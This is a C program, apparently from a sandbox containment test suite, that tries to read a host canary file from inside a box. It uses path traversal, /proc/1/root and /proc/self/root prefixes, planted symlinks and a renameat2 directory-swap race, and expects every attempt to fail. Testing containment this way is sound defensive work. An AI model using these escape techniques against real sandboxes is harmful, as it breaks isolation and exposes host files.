/* Reads a file of the host, whose absolute path is the first argument and which holds the word
 * CANARY. The second argument says how: absolute, dotdot, procroot, symlink, or race (a thread swaps
 * a directory for a symbolic link while we open through it). Expected in a box: ENOENT or EACCES. */
#include "attack.h"
#include <pthread.h>

static const char *canary;

static void reach(const char *path)
{
    char text[64] = "";
    int fd = open(path, O_RDONLY | O_CLOEXEC);
    if (fd < 0) {
        tried(path, -1);
        return;
    }
    ssize_t got = read(fd, text, sizeof text - 1);
    close(fd);
    if (got > 0 && strstr(text, "CANARY"))
        tried(path, 0);
}

static void *swap(void *unused)
{
    while (renameat2(AT_FDCWD, "door", AT_FDCWD, "link", RENAME_EXCHANGE) == 0)
        ;
    return unused;
}

/* The race is worth nothing when the swap does not work: it must have been seen both ways. */
static void race(void)
{
    char path[600];
    pthread_t thread;
    const char *base = strrchr(canary, '/') + 1;
    char parent[512];
    snprintf(parent, sizeof parent, "%.*s", (int)(base - canary - 1), canary);
    if (mkdir("door", 0700) || symlink(parent, "link") || pthread_create(&thread, NULL, swap, NULL))
        inconclusive("the swap could not be set up");
    snprintf(path, sizeof path, "door/%s", base);
    int as_link = 0, as_door = 0, opens = 0;
    /* On a busy host the other thread may not run for a while: at least 10,000, and at most FUSE_SECONDS. */
    for (; opens < 10000 || !as_link || !as_door; opens++) {
        char text[64] = "";
        struct stat st;
        if (lstat("door", &st) == 0)
            S_ISLNK(st.st_mode) ? as_link++ : as_door++;
        int fd = open(path, O_RDONLY | O_CLOEXEC);
        ssize_t got = fd < 0 ? 0 : read(fd, text, sizeof text - 1);
        if (fd >= 0)
            close(fd);
        if (got > 0 && strstr(text, "CANARY"))
            return (void)tried("open through a swapped directory", 0);
    }
    say("tried: %d opens through a swapped directory = never the canary", opens);
}

int main(int argc, char **argv)
{
    attack("contain_path_escape");
    if (argc < 3)
        inconclusive("usage: contain_path_escape CANARY HOW");
    canary = argv[1];
    const char *how = argv[2];
    char path[1024], directory[] = "/tmp/contain-path-XXXXXX";
    if (!mkdtemp(directory) || chdir(directory))
        inconclusive("mkdtemp");
    if (strcmp(how, "absolute") == 0) {
        reach(canary);
        snprintf(path, sizeof path, "//%s", canary);
        reach(path);
    } else if (strcmp(how, "dotdot") == 0) {
        snprintf(path, sizeof path, "../../../../../../../../../..%s", canary);
        reach(path);
        snprintf(path, sizeof path, "/proc/self/cwd/../../../../../..%s", canary);
        reach(path);
        if (chdir("/") == 0 && chdir("..") == 0)
            reach(canary + 1);
    } else if (strcmp(how, "procroot") == 0) {
        const char *doors[] = {"/proc/1/root", "/proc/self/root", "/proc/1/cwd", "/proc/self/root/..", "/dev/fd/0/.."};
        for (size_t i = 0; i < sizeof doors / sizeof *doors; i++) {
            snprintf(path, sizeof path, "%s%s", doors[i], canary);
            reach(path);
        }
    } else if (strcmp(how, "symlink") == 0) {
        if (symlink(canary, "link") || symlink("/", "top"))
            inconclusive("symlink");
        reach("link");
        snprintf(path, sizeof path, "top%s", canary);
        reach(path);
    } else if (strcmp(how, "race") == 0) {
        race();
    }
    conclude();
}
